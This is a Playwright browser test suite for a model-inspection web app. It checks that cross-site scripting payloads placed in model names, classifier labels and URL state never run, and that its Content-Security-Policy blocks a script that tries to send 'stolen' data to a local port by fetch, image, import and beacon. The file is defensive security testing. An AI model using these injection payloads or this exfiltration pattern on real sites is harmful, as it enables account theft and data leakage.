"""Strangers' words in a real browser: none runs, none leads anywhere; what would run is refused."""

import json
import shutil
import socket
import subprocess
import sys
import time

import pytest

pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
from conftest import visits
from links import pack_link
from programs import free_port
from steps import classify, expect, generate, settled, show

pytestmark = pytest.mark.browser

RUN = "window.__x=1"
NAME = f"<img src=x onerror={RUN}>${{{RUN}}}{{{{{RUN}}}}}"  # a directory's, so without a slash
LABELS = (
    f"<img src=x onerror={RUN}>",
    f"</script><script>{RUN}</script>",
    f'"onmouseover="{RUN}',
    f"${{{RUN}}}",
)
# Each would run in a page without a policy, wherever it got into it.
WOULD_RUN = (
    f'<img src="data:," onerror="{RUN}">',
    f"<svg onload={RUN}></svg>",
    f'<iframe src="data:text/html,<script>parent.{RUN}</script>"></iframe>',
    f"<details open ontoggle={RUN}></details>",
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
)
# A script element, a link that is a script, and four ways to send something away.
SPEAK = """async ([code, url]) => {
    const script = document.createElement("script");
    script.textContent = code;
    const link = document.createElement("a");
    link.href = `javascript:${code}`;
    document.body.append(script, link);
    link.click();
    const failed = (what) => what.then(() => "went", () => "kept");
    const image = new Image();
    const drawn = new Promise((yes, no) => { image.onload = yes; image.onerror = no; });
    image.src = url;
    navigator.sendBeacon(url, "stolen");
    return {
        fetch: await failed(fetch(url, { mode: "no-cors" })),
        image: await failed(drawn),
        script: await failed(import(url)),
    };
}"""
MADE = ["1a2b3c4d", "float32", "cpu", "0.1.0"]
ALL = [3, 1, 0, 1, 0, 1, 0]  # new tokens and the other settings
STATES = (
    f"#v=1.generate.{NAME}",
    f"?__theme={NAME}&view={NAME}#{NAME}",
    pack_link("generate", {"a": [NAME] * 4, "m": NAME, "p": NAME, "s": ALL, "x": NAME, "l": {}}),
    pack_link(
        "generate",
        {"a": MADE, "m": "tiny", "p": NAME, "s": ALL, "x": "", "c": [], "l": {"view": NAME}},
    ),
    pack_link("classify", {"a": MADE, "m": LABELS[1], "p": NAME, "l": {"many": NAME}}),
)
NEWS = "Oil prices climb ahead of the storm"


@pytest.fixture(scope="module")
def hostile_page(starter, tmp_path_factory, root, model_directory, classifier_directory):
    """The address of a page whose model has a hostile name, and its classifier such labels."""
    directory = tmp_path_factory.mktemp("hostile")
    model, classifier = directory / NAME, directory / f"news {NAME}"
    shutil.copytree(model_directory, model)
    shutil.copytree(classifier_directory, classifier)
    config = json.loads((classifier / "config.json").read_text())
    config["id2label"] = {str(index): label for index, label in enumerate(LABELS)}
    config["label2id"] = {label: index for index, label in enumerate(LABELS)}
    (classifier / "config.json").write_text(json.dumps(config))
    (directory / "pause").write_text("0")
    (directory / "steps").write_text("")
    command = [sys.executable, root / "tests" / "page_server.py", model, classifier, directory]
    with (
        open(directory / "log", "w") as log,
        starter.start(command, stdout=log, stderr=subprocess.STDOUT) as process,
    ):
        end = time.monotonic() + 90
        while not (directory / "url").exists():
            assert process.poll() is None, (directory / "log").read_text()
            assert time.monotonic() < end
            time.sleep(0.05)
        yield (directory / "url").read_text()
        process.kill()


@pytest.fixture
def visit_hostile(hostile_page, browser):
    """Opens that page; nothing may have gone wrong or run in it in the end."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    with visits(browser, context, hostile_page) as visit:
        yield visit
    context.close()


def nothing_ran(page):
    assert page.evaluate("window.__x") is None
    shown = page.locator(".strip, .slot, #head, .legend, .copy")
    assert shown.locator("img, script, iframe").count() == 0
    assert page.locator("[onmouseover], [onerror], [onload]").count() == 0


def test_names_and_labels_are_never_run(visit_hostile):
    """The name stood in a template, of which Gradio runs what is in ${...}."""
    page = visit_hostile()
    expect(page.locator("#head")).to_contain_text(NAME)
    generate(page, f"{NAME} {LABELS[1]}", settings={"New tokens": 4})
    for title in ("Attention", "Why", "Score"):
        show(page, title)
    classify(page, f"{LABELS[0]} {NEWS}")
    for title in ("When did it decide", "Why", "Many texts"):
        view = show(page, title, "classify")
    expect(view).to_contain_text("onerror=")
    nothing_ran(page)


def test_what_an_address_holds_is_never_run(visit):
    """Also where it is told what is wrong with it."""
    page = visit()
    home = page.url
    for state in STATES:
        page.goto("about:blank")
        page.goto(f"{home}{state}")
        page.get_by_role("tab", name="Generate", exact=True).wait_for()
        page.wait_for_timeout(700)
        nothing_ran(page)


def test_what_got_into_the_page_would_not_run_and_could_not_speak(browser, page_server):
    """If all else fails, there is the Content-Security-Policy."""
    page = browser.new_page()
    page.goto(page_server.url)
    page.get_by_role("button", name="Generate", exact=True).wait_for()
    page.evaluate(
        """all => {
            window.seen = new Set();
            const add = (event) => window.seen.add(event.effectiveDirective);
            document.addEventListener("securitypolicyviolation", add);
            document.body.insertAdjacentHTML("beforeend", all);
        }""",
        "".join(WOULD_RUN),
    )
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.settimeout(0.5)
        failed = page.evaluate(
            SPEAK, [RUN, f"http://127.0.0.1:{elsewhere.getsockname()[1]}/?stolen"]
        )
        assert failed == {"fetch": "kept", "image": "kept", "script": "kept"}
        with pytest.raises(TimeoutError):
            elsewhere.accept()
    assert page.evaluate("window.__x") is None
    wanted = {"script-src-attr", "script-src-elem", "connect-src", "img-src", "frame-src"}
    assert wanted <= {*page.evaluate("[...window.seen]")}
    page.close()


def test_who_signs_in_gets_the_page_and_can_use_it(
    browser, starter, root, model_directory, classifier_directory, tmp_path
):
    port = free_port()
    flags = ("--model", model_directory, "--classifier", classifier_directory, "--port", port)
    url = f"http://127.0.0.1:{port}/"
    command = [sys.executable, root / "app.py", *flags, "--auth", "ann:secret word"]
    pipe = subprocess.PIPE
    with starter.start(command, cwd=tmp_path, stdout=pipe, stderr=pipe) as process:
        assert process.stdout.readline() == f"Open {url}\n"
        page = browser.new_page()
        said = []
        troubles = ("error", "warning")  # Chromium also tells that a field was focused already
        page.on("console", lambda m: said.append(m.text) if m.type in troubles else None)
        page.goto(url)
        for password in ("wrong", "secret word"):
            page.get_by_label("Name").fill("ann")
            page.get_by_label("Password").fill(password)
            page.get_by_role("button", name="Sign in").click()
            if password == "wrong":
                expect(page.get_by_role("alert")).to_have_text("The name or the password is wrong.")
        page.get_by_role("button", name="Generate", exact=True).wait_for()
        generate(page, "Hello world", settings={"New tokens": 4})
        settled(page)
        assert [words for words in said if "401" not in words] == []
        page.close()
        process.kill()
